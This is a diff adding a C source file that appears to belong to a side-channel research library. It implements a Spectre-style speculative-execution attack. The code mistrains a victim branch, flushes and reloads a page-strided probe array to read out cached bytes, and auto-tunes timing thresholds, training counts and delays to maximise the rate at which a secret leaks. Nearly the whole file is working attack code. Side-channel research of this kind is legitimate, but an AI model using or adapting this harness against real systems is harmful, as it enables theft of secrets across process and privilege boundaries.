@@ -0,0 +1,366 @@
+// Implements the functions prototyped in spectre.h.
+
+// Imports
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+// Local imports
+#include "isa.h"
+#include "spectre.h"
+
+// ISA-specific imports
+#if (ISA == ISA_X86)
+#include <x86intrin.h>
+#endif
+
+// Distance between probe lines. Placing each line on its own page keeps the
+// hardware prefetchers (which don't cross page boundaries) from pulling in
+// neighboring lines during the reload.
+#define SPECTRE_STRIDE 4096
+
+// Default schedule and threshold
+#define SPECTRE_DEFAULT_TRAINING 5
+#define SPECTRE_DEFAULT_ATTEMPTS 5
+#define SPECTRE_DEFAULT_DELAY 100
+#define SPECTRE_DEFAULT_THRESHOLD 80
+
+// Candidate values searched by 'spectre_tune()'
+#define SPECTRE_TUNE_THRESHOLDS 6
+static const unsigned long LG(spectre_tune_training)[] = {1, 2, 3, 5, 8, 12};
+static const unsigned long LG(spectre_tune_delays)[] = {
+    0, 25, 50, 100, 200, 400
+};
+
+// Parameters searched by 'spectre_tune()'
+#define SPECTRE_PARAM_THRESHOLD 0
+#define SPECTRE_PARAM_TRAINING 1
+#define SPECTRE_PARAM_DELAY 2
+
+// Maximum length of a line in a profile
+#define SPECTRE_PROFILE_LINE 128
+
+
+// ============================ Spectre Context ============================= //
+PE(result_e) PF(spectre_init)(PS(spectre_t)* sp,
+                              void (*victim)(size_t index, void* arg),
+                              void* arg,
+                              PE(probe_e) mode)
+{
+    memset(sp, 0, sizeof(PS(spectre_t)));
+    if (!victim || mode < 0 || mode >= LIBSCA_PROBE_COUNT)
+    { return LIBSCA_INVALID_INPUT; }
+
+    size_t size = LIBSCA_SPECTRE_LINES * SPECTRE_STRIDE;
+    int flags = LIBSCA_MEM_POPULATE | LIBSCA_MEM_LOCK;
+    PE(result_e) result = PF(region_init)(&sp->region, size, flags);
+    if (result != LIBSCA_SUCCESS)
+    { return result; }
+    sp->probe = sp->region.base;
+    sp->stride = SPECTRE_STRIDE;
+
+    sp->victim = victim;
+    sp->arg = arg;
+    sp->training = SPECTRE_DEFAULT_TRAINING;
+    sp->attempts = SPECTRE_DEFAULT_ATTEMPTS;
+    sp->delay = SPECTRE_DEFAULT_DELAY;
+    sp->mode = mode;
+    sp->threshold = SPECTRE_DEFAULT_THRESHOLD;
+
+    // reload the lines in a scrambled (but fixed) order, so the stride
+    // prefetcher can't predict the next line and bring it in early. (167 is
+    // odd, so this visits every line exactly once.)
+    for (int i = 0; i < LIBSCA_SPECTRE_LINES; i++)
+    { sp->order[i] = (uint8_t) (((i * 167) + 13) % LIBSCA_SPECTRE_LINES); }
+    return LIBSCA_SUCCESS;
+}
+
+PE(result_e) PF(spectre_add_flush)(PS(spectre_t)* sp, void* addr)
+{
+    if (!addr || sp->flush_count >= LIBSCA_SPECTRE_MAX_FLUSH)
+    { return LIBSCA_INVALID_INPUT; }
+    sp->flush[sp->flush_count++] = addr;
+    return LIBSCA_SUCCESS;
+}
+
+// Helper function that flushes a line without timing it (the timed flushes
+// in mem.c read the timestamp counter twice per line, which adds up over a
+// whole probe array).
+static inline void LF(spectre_clflush)(void* addr)
+{
+    #if (ISA == ISA_X86)
+    _mm_clflush(addr);
+    #else
+    #error "Unsupported ISA"
+    #endif
+}
+
+void PF(spectre_run_round)(PS(spectre_t)* sp, size_t training_index,
+                           size_t malicious_index)
+{
+    // warm up the TLB first, so the reloads don't include page walks, then
+    // flush every probe line
+    PF(region_warm)(&sp->region);
+    for (int i = 0; i < LIBSCA_SPECTRE_LINES; i++)
+    { LF(spectre_clflush)(sp->probe + (i * sp->stride)); }
+
+    // every 'period'-th call is malicious; the rest train the branch
+    size_t period = (size_t) sp->training + 1;
+    size_t calls = period * sp->attempts;
+    for (size_t c = calls; c-- > 0;)
+    {
+        for (size_t f = 0; f < sp->flush_count; f++)
+        { LF(spectre_clflush)(sp->flush[f]); }
+        #if (ISA == ISA_X86)
+        _mm_mfence();
+        #endif
+
+        // give the flushes time to complete
+        for (volatile unsigned int d = 0; d < sp->delay; d++)
+        { }
+
+        // pick the index without a branch: 'mask' is all ones on every
+        // period-th call, and zero otherwise
+        size_t mask = (size_t) 0 - (size_t) (c % period == 0);
+        size_t index = training_index ^
+                       (mask & (malicious_index ^ training_index));
+        sp->victim(index, sp->arg);
+    }
+
+    // reload every line
+    for (int k = 0; k < LIBSCA_SPECTRE_LINES; k++)
+    {
+        int i = sp->order[k];
+        sp->timings[i] = PF(probe)(sp->probe + (i * sp->stride), sp->mode);
+    }
+
+    // decide which lines hit (with a classifier, that's any line that wasn't
+    // served from DRAM) and score them
+    PF(hitvec_clear)(&sp->hits);
+    for (int i = 0; i < LIBSCA_SPECTRE_LINES; i++)
+    {
+        unsigned long cycles = sp->timings[i];
+        int was_cached = sp->classifier ?
+            PF(classify)(sp->classifier, cycles) != LIBSCA_LATENCY_DRAM :
+            cycles <= sp->threshold;
+        if (was_cached)
+        { PF(hitvec_set)(&sp->hits, i); }
+    }
+    PS(hitvec_t) scored;
+    PF(hitvec_andnot)(&scored, &sp->hits, &sp->ignore);
+    PF(hitscore_add)(&sp->scores, &scored);
+}
+
+void PF(spectre_reset)(PS(spectre_t)* sp)
+{ PF(hitscore_reset)(&sp->scores); }
+
+void PF(spectre_free)(PS(spectre_t)* sp)
+{
+    PF(region_free)(&sp->region);
+    sp->probe = NULL;
+}
+
+
+// ================================= Tuning ================================= //
+// Helper function that returns the current time (in seconds).
+static double LF(spectre_now)()
+{
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return (double) ts.tv_sec + ((double) ts.tv_nsec / 1e9);
+}
+
+// Helper function that sets one of the tuned parameters.
+static void LF(spectre_param_set)(PS(spectre_t)* sp, int param,
+                                  unsigned long value)
+{
+    if (param == SPECTRE_PARAM_THRESHOLD)
+    { sp->threshold = value; }
+    else if (param == SPECTRE_PARAM_TRAINING)
+    { sp->training = (unsigned int) value; }
+    else
+    { sp->delay = (unsigned int) value; }
+}
+
+// Helper function that leaks every byte of the known secret with the
+// context's current parameters, and stores the fraction of bytes leaked
+// correctly in 'accuracy' and the number of correct bytes per second in
+// 'rate'.
+static void LF(spectre_evaluate)(PS(spectre_t)* sp,
+                                 int (*steal)(PS(spectre_t)*, size_t,
+                                              unsigned int, void*),
+                                 void* arg, const uint8_t* secret,
+                                 size_t secret_len, unsigned int trials,
+                                 double* accuracy, double* rate)
+{
+    size_t correct = 0;
+    double start = LF(spectre_now)();
+    for (size_t i = 0; i < secret_len; i++)
+    { correct += steal(sp, i, trials, arg) == (int) secret[i]; }
+    double elapsed = LF(spectre_now)() - start;
+
+    *accuracy = (double) correct / (double) secret_len;
+    *rate = elapsed > 0.0 ? (double) correct / elapsed : 0.0;
+}
+
+PE(result_e) PF(spectre_tune)(PS(spectre_t)* sp,
+                              int (*steal)(PS(spectre_t)* sp, size_t offset,
+                                           unsigned int trials, void* arg),
+                              void* arg,
+                              const uint8_t* secret,
+                              size_t secret_len,
+                              unsigned int trials,
+                              PS(spectre_tune_t)* result,
+                              FILE* log)
+{
+    memset(result, 0, sizeof(PS(spectre_tune_t)));
+    if (!steal || !secret || secret_len == 0 || trials == 0)
+    { return LIBSCA_INVALID_INPUT; }
+
+    // spread the threshold candidates between the hit and miss medians (if
+    // they can be told apart at all)
+    unsigned long thresholds[SPECTRE_TUNE_THRESHOLDS];
+    size_t threshold_count = 0;
+    if (!sp->classifier)
+    {
+        PS(dataset_t) hits;
+        PS(dataset_t) misses;
+        PE(result_e) res = PF(collect_probe_timing)(sp->mode, 16, &hits,
+                                                    &misses, NULL);
+        if (res != LIBSCA_SUCCESS)
+        { return res; }
+        unsigned long hit_med = PF(dataset_median)(&hits);
+        unsigned long miss_med = PF(dataset_median)(&misses);
+        PF(dataset_free)(&hits);
+        PF(dataset_free)(&misses);
+
+        unsigned long gap = miss_med > hit_med ? miss_med - hit_med : 0;
+        for (size_t k = 0; gap > 0 && k < SPECTRE_TUNE_THRESHOLDS; k++)
+        {
+            thresholds[threshold_count++] = hit_med +
+                ((gap * (k + 1)) / (SPECTRE_TUNE_THRESHOLDS + 1));
+        }
+    }
+
+    // the stages of the search: each one sweeps a single parameter
+    struct
+    {
+        int param;
+        const unsigned long* values;
+        size_t count;
+    } stages[] = {
+        {SPECTRE_PARAM_THRESHOLD, thresholds, threshold_count},
+        {SPECTRE_PARAM_TRAINING, LG(spectre_tune_training),
+         sizeof(LG(spectre_tune_training)) / sizeof(unsigned long)},
+        {SPECTRE_PARAM_DELAY, LG(spectre_tune_delays),
+         sizeof(LG(spectre_tune_delays)) / sizeof(unsigned long)},
+        {SPECTRE_PARAM_THRESHOLD, thresholds, threshold_count}
+    };
+
+    // start from the context's current parameters
+    result->training = sp->training;
+    result->delay = sp->delay;
+    result->threshold = sp->threshold;
+    LF(spectre_evaluate)(sp, steal, arg, secret, secret_len, trials,
+                         &result->accuracy, &result->rate);
+    result->evaluations = 1;
+
+    for (size_t s = 0; s < sizeof(stages) / sizeof(stages[0]); s++)
+    {
+        for (size_t c = 0; c < stages[s].count; c++)
+        {
+            LF(spectre_param_set)(sp, stages[s].param, stages[s].values[c]);
+            double accuracy;
+            double rate;
+            LF(spectre_evaluate)(sp, steal, arg, secret, secret_len, trials,
+                                 &accuracy, &rate);
+            result->evaluations++;
+            if (log)
+            {
+                fprintf(log, "training=%-3u delay=%-4u threshold=%-5lu "
+                        "%6.2f%% correct, %8.1f bytes/sec\n",
+                        sp->training, sp->delay, sp->threshold,
+                        accuracy * 100.0, rate);
+            }
+
+            if (rate > result->rate)
+            {
+                result->training = sp->training;
+                result->delay = sp->delay;
+                result->threshold = sp->threshold;
+                result->accuracy = accuracy;
+                result->rate = rate;
+            }
+        }
+
+        // carry the best parameters so far into the next stage
+        sp->training = result->training;
+        sp->delay = result->delay;
+        sp->threshold = result->threshold;
+    }
+    return LIBSCA_SUCCESS;
+}
+
+PE(result_e) PF(spectre_profile_save)(PS(spectre_t)* sp, const char* path)
+{
+    FILE* fp = fopen(path, "w");
+    if (!fp)
+    { return LIBSCA_FAILURE; }
+
+    fprintf(fp, "# libsca Spectre v1 profile\n");
+    fprintf(fp, "mode %s\n", PF(probe_name)(sp->mode));
+    fprintf(fp, "training %u\n", sp->training);
+    fprintf(fp, "attempts %u\n", sp->attempts);
+    fprintf(fp, "delay %u\n", sp->delay);
+    fprintf(fp, "threshold %lu\n", sp->threshold);
+    return fclose(fp) ? LIBSCA_FAILURE : LIBSCA_SUCCESS;
+}
+
+PE(result_e) PF(spectre_profile_load)(PS(spectre_t)* sp, const char* path)
+{
+    FILE* fp = fopen(path, "r");
+    if (!fp)
+    { return LIBSCA_FAILURE; }
+
+    // parse every "key value" line, skipping blank lines and comments
+    PE(result_e) result = LIBSCA_SUCCESS;
+    char line[SPECTRE_PROFILE_LINE];
+    while (result == LIBSCA_SUCCESS && fgets(line, sizeof(line), fp))
+    {
+        char key[SPECTRE_PROFILE_LINE];
+        char value[SPECTRE_PROFILE_LINE];
+        if (line[0] == '#' || sscanf(line, "%127s %127s", key, value) != 2)
+        { continue; }
+
+        if (!strcmp(key, "mode"))
+        {
+            PE(probe_e) mode = PF(probe_parse)(value);
+            if (mode == LIBSCA_PROBE_COUNT)
+            { result = LIBSCA_INVALID_INPUT; }
+            else
+            { sp->mode = mode; }
+            continue;
+        }
+
+        // the remaining known keys take numbers; unknown keys are skipped
+        // before their values are parsed, whatever they hold
+        if (strcmp(key, "training") && strcmp(key, "attempts") &&
+            strcmp(key, "delay") && strcmp(key, "threshold"))
+        { continue; }
+        char* end = NULL;
+        unsigned long number = strtoul(value, &end, 10);
+        if (*end != '\0')
+        { result = LIBSCA_INVALID_INPUT; }
+        else if (!strcmp(key, "training"))
+        { sp->training = (unsigned int) number; }
+        else if (!strcmp(key, "attempts"))
+        { sp->attempts = (unsigned int) number; }
+        else if (!strcmp(key, "delay"))
+        { sp->delay = (unsigned int) number; }
+        else if (!strcmp(key, "threshold"))
+        { sp->threshold = number; }
+    }
+
+    fclose(fp);
+    return result;
+}